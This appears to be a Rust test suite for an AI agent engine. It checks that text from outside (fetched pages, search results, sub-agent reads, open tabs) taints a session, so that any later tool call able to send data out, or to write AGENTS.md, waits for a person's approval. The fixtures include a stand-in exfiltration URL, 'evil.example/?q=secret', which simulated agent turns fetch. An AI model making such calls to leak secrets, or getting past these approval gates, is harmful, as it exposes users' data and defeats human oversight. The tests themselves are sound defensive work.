//! Text from outside taints a session: then a person decides about what can send data out.

use std::collections::BTreeSet;
use std::sync::{Arc, Mutex};

use samovar_core::approval::Answer;
use samovar_core::situation::{Posted, Tab};
use samovar_core::tool::{OutsideText, Sends};
use samovar_core::{
    Action, Approval, CallFacts, Decision, Delivery, Effect, Kind, Outcome, PostedContext, Sender,
    ToolReply, TurnId,
};
use samovar_doubles::{TestTool, call, say};
use samovar_engine::Settings;
use serde_json::{Value, json};

use crate::children::{agent, delegate, world};
use crate::rig::{Rig, said, settings, turn_of};

const EVIL: &str = "https://evil.example/?q=secret";

fn page() -> Value {
    json!({"url": "https://page.example/a"})
}

fn tools() -> Vec<TestTool> {
    let done = |name: &str| TestTool::new(name, |_, _| async { closed(Outcome::done("ok")) });
    let fetch = done("fetch")
        .effect(Effect::Read)
        .knowing(|args| CallFacts {
            grants: Some(Vec::new()),
            outside: Some(OutsideText::Plain),
            sends: args["url"]
                .as_str()
                .map(|url| Sends::ToHostOf(url.to_owned())),
            ..CallFacts::default()
        });
    let results = json!({"results": [{"url": "https://found.example/x", "title": "t"}]});
    let search = TestTool::new("search", move |_, _| {
        let found = Outcome::done("https://text.example").with_data(results.clone());
        async { closed(found) }
    });
    let search = search.knowing(|_| CallFacts {
        grants: Some(Vec::new()),
        outside: Some(OutsideText::Search),
        ..CallFacts::default()
    });
    let changes = Arc::new(Mutex::new(json!(1)));
    vec![
        fetch.built_in(),
        search.built_in(),
        done("send").foreign().effect(Effect::Unsafe).target("one"),
        done("look").foreign().effect(Effect::Read),
        done("keep").seeing(&changes),
    ]
}

fn closed(outcome: Outcome) -> ToolReply {
    ToolReply::Closed(outcome)
}

fn auto() -> Settings {
    Settings {
        approval: Approval::Auto,
        ..settings()
    }
}

/// A model that makes these calls one after another.
async fn rig(calls: &[(&'static str, Value)], settings: Settings) -> Rig {
    let calls = calls.to_vec();
    let next = move |_: &str, results: usize| match calls.get(results) {
        Some((name, args)) => call(name, args.clone()),
        None => say("done"),
    };
    Rig::by(next, tools(), settings).await
}

/// The log of a turn whose questions are all answered so, and the calls that were asked about.
async fn run(rig: &Rig, turn: &TurnId, decision: Decision) -> (Vec<Kind>, String) {
    let decide = async {
        let mut decided = BTreeSet::new();
        loop {
            for open in rig.engine.approvals().await.unwrap() {
                let id = open.asked.unwrap().id.clone();
                if decided.insert(id.clone()) {
                    let answer = Answer {
                        decision,
                        by: "owner".to_owned(),
                        words: None,
                    };
                    let decided = rig.engine.decide(Sender::Embedder, id, answer);
                    decided.await.unwrap();
                }
            }
            tokio::time::sleep(std::time::Duration::from_millis(1)).await;
        }
    };
    let kinds = tokio::select! {
        kinds = rig.log_of(turn) => kinds,
        () = decide => unreachable!(),
    };
    let asked = |call| {
        let is_it =
            |kind: &Kind| matches!(kind, Kind::ApprovalAsked { call: of, .. } if of == call);
        kinds.iter().any(is_it)
    };
    let closed = kinds.iter().filter_map(|kind| match kind {
        Kind::CallClosed { call, .. } => Some(if asked(call) { 'a' } else { 'r' }),
        _ => None,
    });
    let closed = closed.collect();
    (kinds, closed)
}

async fn asked(rig: &Rig, text: &str) -> String {
    let turn = rig.post(text).await;
    run(rig, &turn, Decision::Once).await.1
}

// proves TL-10
#[tokio::test(start_paused = true)]
async fn after_text_from_outside_a_person_decides_about_what_can_send_data_out() {
    let (evil, nothing) = (json!({"url": EVIL}), json!({}));
    let rows: [(&str, &str, &[(&'static str, Value)]); 12] = [
        (
            "go",
            "rr",
            &[("send", nothing.clone()), ("keep", json!({"path": "a.md"}))],
        ),
        ("go", "ra", &[("fetch", page()), ("send", nothing.clone())]),
        (
            "go",
            "ra",
            &[("search", nothing.clone()), ("send", nothing.clone())],
        ),
        (
            "go",
            "ra",
            &[("look", nothing.clone()), ("send", nothing.clone())],
        ),
        (
            "go",
            "ra",
            &[("send", nothing.clone()), ("send", nothing.clone())],
        ),
        (
            "go",
            "rrr",
            &[
                ("fetch", page()),
                ("look", nothing.clone()),
                ("search", nothing.clone()),
            ],
        ),
        (
            "go",
            "raa",
            &[
                ("fetch", page()),
                ("fetch", evil.clone()),
                ("fetch", page()),
            ],
        ),
        // What a person has allowed once is a host that they know.
        (
            "go",
            "rar",
            &[
                ("fetch", page()),
                ("fetch", evil.clone()),
                ("fetch", evil.clone()),
            ],
        ),
        (
            "read page.example",
            "rrr",
            &[("fetch", page()), ("fetch", page()), ("fetch", page())],
        ),
        (
            "read page.example",
            "ra",
            &[("fetch", page()), ("fetch", evil)],
        ),
        (
            "go",
            "rra",
            &[
                ("search", nothing.clone()),
                ("fetch", json!({"url": "https://found.example/"})),
                ("fetch", json!({"url": "https://text.example/"})),
            ],
        ),
        (
            "go",
            "rra",
            &[
                ("fetch", page()),
                ("keep", json!({"path": "a.md"})),
                ("keep", json!({"path": "AGENTS.md"})),
            ],
        ),
    ];
    for (text, expected, calls) in rows {
        for level in [Approval::Auto, Approval::Supervised] {
            let settings = Settings {
                approval: level,
                ..settings()
            };
            let rig = rig(calls, settings).await;
            let asked = asked(&rig, text).await;
            let is_tainted = rig.row().await.tainted;
            if level == Approval::Auto {
                assert_eq!(asked, expected, "{text} {calls:?}");
                assert!(is_tainted || expected == "rr", "{calls:?}");
            }
            // Never less than without.
            let fewer = |(a, b): (char, char)| a == 'r' && b == 'a';
            assert!(!asked.chars().zip(expected.chars()).any(fewer), "{calls:?}");
        }
    }
}

// proves TL-10, DU-7
#[tokio::test(start_paused = true)]
async fn a_session_stays_tainted_and_knows_what_was_named_after_a_restart() {
    let next = |said: &str, results: usize| match (said, results) {
        ("go on", 0) | ("read page.example", 1) => call("fetch", page()),
        ("go on", 1) => call("fetch", json!({"url": "https://found.example/"})),
        ("go on", 2) => call("fetch", json!({"url": EVIL})),
        ("go on", 3) => call("send", json!({})),
        ("read page.example", 0) => call("search", json!({})),
        _ => say("done"),
    };
    let rig = Rig::by(next, tools(), auto()).await;
    assert_eq!(asked(&rig, "read page.example").await, "rr");

    let rig = rig.restart().await;

    assert!(rig.row().await.tainted);
    assert_eq!(asked(&rig, "go on").await, "rraa");
}

// proves TL-10
#[tokio::test(start_paused = true)]
async fn what_the_person_has_open_taints_a_session_too() {
    let rig = rig(&[("send", json!({}))], auto()).await;
    let context = PostedContext {
        active_tab: Some(Tab::default()),
        ..PostedContext::default()
    };
    let mut action = said("go", Delivery::Queue);
    if let Action::Post { posted, .. } = &mut action {
        *posted = Posted::new(Some(context), None).unwrap();
    }
    let turn = turn_of(rig.submit(action).await);
    assert_eq!(run(&rig, &turn, Decision::Once).await.1, "a");
}

// proves TL-10
#[tokio::test(start_paused = true)]
async fn what_a_called_agent_reads_taints_its_caller_and_it_knows_what_the_person_named() {
    let world = world(|who, _, results| match (who, results) {
        ("browser", 0 | 1) => call("fetch", page()),
        ("master", 0) => call("subAgent", delegate("browser", "read https://evil.example")),
        ("browser", 2) => call("fetch", json!({"url": EVIL})),
        ("master", 1) => call("send", json!({})),
        _ => say("done"),
    });
    let agents = [agent("browser", &["fetch"], &[])];
    let rig = Rig::delegating(world, tools(), agents, auto()).await;
    let turn = rig.post("what is on page.example?").await;
    let (_, of_caller) = run(&rig, &turn, Decision::Once).await;
    let log = crate::children::log(&rig, &turn).await;
    let asked: Vec<_> = log
        .iter()
        .filter_map(|event| match &event.kind {
            Kind::ApprovalAsked { call, .. } => Some((event.agent.name().to_owned(), call)),
            _ => None,
        })
        .collect();
    let agents: Vec<_> = asked.iter().map(|(agent, _)| agent.as_str()).collect();
    // The page that the caller's task names is not named by a person.
    assert_eq!(agents, ["browser", "master"]);
    assert_eq!(of_caller, "ra");
}

// proves TL-5, TL-10
#[tokio::test(start_paused = true)]
async fn what_was_allowed_before_the_text_came_does_not_count_after_it() {
    let send = || ("send", json!({}));
    let fetch = |url: &str| ("fetch", json!({ "url": url }));
    let supervised = Settings {
        approval: Approval::Supervised,
        ..settings()
    };
    let rules = supervised.rules.clone();
    let calls = [
        send(),
        send(),
        send(),
        fetch(EVIL),
        fetch("https://other.example"),
    ];
    let rig = rig(&calls, supervised).await;
    let turn = rig.post("go").await;
    let decide = async |decision| {
        let open = rig.calls(1).await.pop().unwrap().asked.unwrap();
        let answer = Answer {
            decision,
            by: "owner".to_owned(),
            words: None,
        };
        let decided = rig
            .engine
            .decide(Sender::Embedder, open.id.clone(), answer)
            .await;
        (
            open.grant.as_ref().map(|grant| grant.tainted),
            decided.is_ok(),
        )
    };
    assert_eq!(decide(Decision::Always).await, (Some(false), true));
    // Its own result tainted the session; the third call runs by the second rule.
    assert_eq!(decide(Decision::Always).await, (Some(true), true));
    // Who allows one host allows no other.
    assert_eq!(decide(Decision::Always).await, (None, false));
    assert_eq!(decide(Decision::Once).await, (None, true));
    assert_eq!(decide(Decision::Once).await, (None, true));
    rig.over(&turn).await;
    assert_eq!(rules.list().len(), 2);
}
